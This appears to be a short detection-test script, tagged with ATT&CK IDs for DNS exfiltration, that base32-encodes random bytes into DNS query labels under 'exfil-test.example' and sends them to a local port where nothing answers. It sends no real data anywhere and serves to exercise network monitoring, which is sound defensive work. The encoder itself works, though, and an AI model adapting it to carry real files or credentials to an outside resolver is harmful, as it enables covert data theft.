#!/bin/sh
# T1048.003 / T1071.004: data cut into base32 labels and sent as DNS queries (dnscat2, iodine,
# DNSExfiltrator style). The queries go to 127.0.0.1:53 and nothing answers them.
set -e
python3 - <<'PY'
import base64, os, socket, struct
data = os.urandom(900)
enc = base64.b32encode(data).decode().rstrip("=").lower()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(0, len(enc), 48):
    labels = [enc[i:i + 48], "%04x" % (i // 48), "x", "exfil-test", "example"]
    q = struct.pack(">HHHHHH", i & 0xffff, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(l)]) + l.encode() for l in labels) + b"\0" + struct.pack(">HH", 16, 1)
    s.sendto(q, ("127.0.0.1", 53))
PY
